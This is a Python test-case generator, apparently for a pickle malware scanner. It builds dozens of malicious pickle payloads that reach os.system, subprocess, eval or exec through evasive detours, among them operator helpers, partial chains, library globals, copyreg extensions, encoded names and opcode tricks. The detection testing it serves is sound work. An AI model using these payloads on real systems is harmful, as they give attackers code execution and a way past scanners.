"""What reaches a dangerous function by detours."""

import base64

from families import COMMAND, PYTHON, Case
from families.node import Build, Call, Drop, Global, New, Raw, files, render
from families.obscure import SYSTEM, method, plain
from families.stdlib import SHELL

NAME = "indirection"
ABOUT = "detours to a function"
OS = Call(Global("importlib", "import_module"), "os")


def computed(module, name):
    """An import of names that are computed by the stream."""
    return Raw(render(module) + render(name) + b"\x93")


def trees():
    namespace = Build(New(Global("types", "SimpleNamespace")), {"__setstate__": SYSTEM})
    appender = plain(append=SYSTEM)
    adder = plain(add=SYSTEM)
    evaluator = Call(Call(Global("builtins", "type"), "Table", (), {"__setitem__": Global("builtins", "eval")}))
    setter = Call(Call(Global("builtins", "type"), "State", (), {"__setstate__": SYSTEM}))
    registry = Global("copyreg", "_inverted_registry")
    deep = SYSTEM
    for _ in range(12):
        deep = Call(Global("functools", "partial"), deep)
    return {
        "getattr": Call(Call(Global("builtins", "getattr"), OS, "system"), COMMAND),
        "object-getattribute": Call(Call(Global("builtins", "object.__getattribute__"), OS, "system"), COMMAND),
        "attrgetter-called": Call(Call(Call(Global("_operator", "attrgetter"), "system"), OS), COMMAND),
        "methodcaller": Call(Call(Global("operator", "methodcaller"), "system", COMMAND), OS),
        "itemgetter": Call(Call(Call(Global("operator", "itemgetter"), "system"), Call(Global("builtins", "vars"), OS)), COMMAND),
        "operator-call": Call(Global("operator", "call"), SYSTEM, COMMAND),
        "c-operator-call": Call(Global("_operator", "call"), SYSTEM, COMMAND),
        "modules-getitem": Call(Call(Global("operator", "getitem"), Call(Global("builtins", "vars"), Call(Global("operator", "getitem"), Global("sys", "modules"), "os")), "system"), COMMAND),
        "dict-get": Call(Call(Global("builtins", "getattr"), Call(Global("builtins", "dict.get"), Global("sys", "modules"), "os"), "system"), COMMAND),
        "numpy-builtins": Call(Call(Global("builtins", "dict.get"), Global("numpy", "__builtins__"), "eval"), PYTHON),
        "random-os": Call(Global("random", "_os.system"), COMMAND),
        "joblib-memory-os": Call(Global("joblib.memory", "os.system"), COMMAND),
        "logging-os": Call(Global("logging", "os.popen"), COMMAND),
        "sklearn-os": Call(Global("sklearn.datasets._base", "os.system"), COMMAND),
        "torch-serialization-os": Call(Global("torch.serialization", "os.system"), COMMAND),
        "pandas-common-os": Call(Global("pandas.io.common", "os.system"), COMMAND),
        "numpy-dotted-modules": Call(Call(Global("builtins", "getattr"), Call(Global("numpy", "lib._utils_impl.sys.modules.get"), "os"), "system"), COMMAND),
        "collections-abc-sys": Call(Call(Global("builtins", "getattr"), Call(Global("_collections_abc", "sys.modules.get"), "os"), "system"), COMMAND),
        "collections-sys": Call(Call(Global("builtins", "getattr"), Call(Global("collections", "_sys.modules.get"), "os"), "system"), COMMAND),
        "function-globals": Call(Call(Global("builtins", "getattr"), Call(Global("operator", "getitem"), Global("random", "seed.__func__.__globals__"), "_os"), "system"), COMMAND),
        "init-globals": Call(Call(Global("builtins", "getattr"), Call(Global("operator", "getitem"), Call(Global("builtins", "getattr"), Call(Global("collections", "UserDict.__init__.__globals__.get"), "_sys"), "modules"), "os"), "system"), COMMAND),
        "partial": Call(Call(Global("functools", "partial"), SYSTEM, COMMAND)),
        "partial-deep": Call(deep, COMMAND),
        "partial-state": Call(Build(Call(Global("functools", "partial"), Global("builtins", "len")), (SYSTEM, (COMMAND,), {}, {}))),
        "map": Call(Global("builtins", "list"), Call(Global("builtins", "map"), SYSTEM, [COMMAND])),
        "filter": Call(Global("builtins", "tuple"), Call(Global("builtins", "filter"), SYSTEM, [COMMAND])),
        "map-any": Call(Global("builtins", "any"), Call(Global("builtins", "map"), Global("builtins", "exec"), [PYTHON])),
        "starmap": Call(Global("collections", "deque"), Call(Global("itertools", "starmap"), Global("subprocess", "call"), [(SHELL,)])),
        "reduce": Call(Call(Global("functools", "reduce"), Global("builtins", "getattr"), ["system"], OS), COMMAND),
        "accumulate": Call(Global("builtins", "list"), Call(Global("itertools", "accumulate"), [PYTHON, {}], Global("builtins", "eval"))),
        "iter-callable": Call(Global("builtins", "next"), Call(Global("builtins", "iter"), Call(Global("functools", "partial"), SYSTEM, COMMAND), 99)),
        "method-type": Call(Call(Global("types", "MethodType"), SYSTEM, COMMAND)),
        "lru-cache": Call(Call(Call(Global("functools", "lru_cache"), 1), SYSTEM), COMMAND),
        "singledispatch": Call(Call(Global("functools", "singledispatch"), SYSTEM), COMMAND),
        "property-get": Call(Global("builtins", "property.__get__"), Call(Global("builtins", "property"), SYSTEM), COMMAND),
        "new-map-bytes": New(Global("builtins", "bytes"), New(Global("builtins", "map"), SYSTEM, [COMMAND])),
        "new-map-frozenset": New(Global("builtins", "frozenset"), New(Global("builtins", "map"), Global("builtins", "exec"), [PYTHON])),
        "namespace-setstate": Build(namespace, COMMAND),
        "append-attribute": Raw(render(appender) + render(COMMAND) + b"a"),
        "add-attribute": Raw(render(adder) + b"(" + render(COMMAND) + b"\x90"),
        "type-setitem": Raw(render(evaluator) + render(PYTHON) + render({}) + b"s"),
        "type-setstate": Build(setter, COMMAND),
        "class-build": Drop(Build(Global("collections", "UserDict"), (None, {"fromkeys": SYSTEM})), Call(Global("collections", "UserDict.fromkeys"), COMMAND)),
        "module-build": Drop(Build(Global("random", "_os"), (None, {"fspath": SYSTEM})), Call(Global("random", "_os.fspath"), COMMAND)),
        "extension-added": Drop(Call(Global("copyreg", "add_extension"), "os", "system", 7), Call(Raw(b"\x82\x07"), COMMAND)),
        "extension-registry": Drop(Raw(render(registry) + render(9) + render(("os", "system")) + b"s"), Call(Raw(b"\x82\x09"), COMMAND)),
        "extension-cache": Drop(Raw(render(Global("copyreg", "_extension_cache")) + render(300) + render(SYSTEM) + b"s"), Call(Raw(b"\x83\x2c\x01"), COMMAND)),
        "copyreg-newobj": Call(Global("copyreg", "__newobj__"), Global("builtins", "bytes"), Call(Global("builtins", "map"), SYSTEM, [COMMAND])),
        "computed-concat": Call(computed("os", Call(Global("operator", "concat"), "sys", "tem")), COMMAND),
        "computed-rot13": Call(computed("os", Call(Global("codecs", "decode"), "flfgrz", "rot13")), COMMAND),
        "computed-lower": Call(computed(Call(Global("builtins", "str.lower"), "OS"), "system"), COMMAND),
        "computed-join": Call(computed("os", Call(Global("builtins", "str.join"), "", ["sys", "tem"])), COMMAND),
        "computed-codecs": Call(computed("os", Call(Global("_codecs", "decode"), b"system", "ascii")), COMMAND),
        "computed-base64": Call(Global("builtins", "exec"), Call(Global("base64", "b64decode"), base64.b64encode(PYTHON.encode()).decode())),
        "find-class": Call(Call(Global("_pickle", "Unpickler.find_class"), Call(Global("_pickle", "Unpickler"), Call(Global("io", "BytesIO"), b"N.")), "os", "system"), COMMAND),
        "unpickler-load": method("_pickle", "Unpickler.load", Call(Global("_pickle", "Unpickler"), Call(Global("io", "BytesIO"), b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."))),
        "nested-reduce": Call(Global("builtins", "exec"), Call(Global("builtins", "str"), Call(Global("builtins", "str"), PYTHON))),
    }


def streams():
    """Detours of single opcodes."""
    command = render(COMMAND)
    text = lambda value: render(value)  # noqa: E731
    shown = {
        "inst": b"(V" + COMMAND.encode() + b"\nios\nsystem\n.",
        "obj": b"\x80\x02(cos\nsystem\n" + b"X" + len(COMMAND).to_bytes(4, "little") + COMMAND.encode() + b"o.",
        "inst-popen": b"\x80\x02((lS'sh'\naS'-c'\na" + b"S'" + COMMAND.encode() + b"'\naisubprocess\nPopen\n.",
        "newobj-ex": b"\x80\x04" + render(Global("builtins", "bytes")) + render((New(Global("builtins", "map"), SYSTEM, [COMMAND]),)) + b"}\x92.",
        "memo-mixed": b"\x80\x04" + text("os") + b"q\x00" + text("system") + b"q\x01" + text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x9400" + b"00h\x00h\x01\x93" + command + b"\x85R.",
        "memo-overwritten": b"\x80\x04" + text("collections") + b"q\x00" + text("OrderedDict") + b"q\x010" + b"0" + text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93" + command + b"\x85R.",
        "memo-far": b"\x80\x04" + text("os") + b"r\xff\xff\x00\x00" + text("system") + b"r\xfe\xff\x00\x0000j\xff\xff\x00\x00j\xfe\xff\x00\x00\x93" + command + b"\x85R.",
        "memo-text-index": b"\x80\x04" + text("os") + b"p007\n" + text("system") + b"p+8\n00g7\ng08\n\x93" + command + b"\x85R.",
        "memo-function": b"\x80\x04" + render(SYSTEM) + b"\x940N0h\x00" + command + b"\x85R.",
        "dup": b"\x80\x04" + render(SYSTEM) + b"2" + command + b"\x85R\x86.",
        "mark-popped": b"\x80\x04(" + text("x") * 5 + b"1" + render(SYSTEM) + command + b"\x85R.",
        "tuple-from-memo": b"\x80\x04" + command + b"\x85\x940" + render(SYSTEM) + b"h\x00R.",
        "persistent-callable": b"\x80\x04" + render(("storage", SYSTEM, "0", "cpu", 1)) + b"Q" + command + b"\x85R.",
        "frames-split": b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x95\x09\x00\x00\x00\x00\x00\x00\x00\x8c\x06system\x93" + command + b"\x85R.",
    }
    return [Case(name + ".pkl", content, "os.system by opcodes", None if name == "persistent-callable" else "pickle") for name, content in shown.items()]


def cases():
    return files(trees(), 3) + streams()
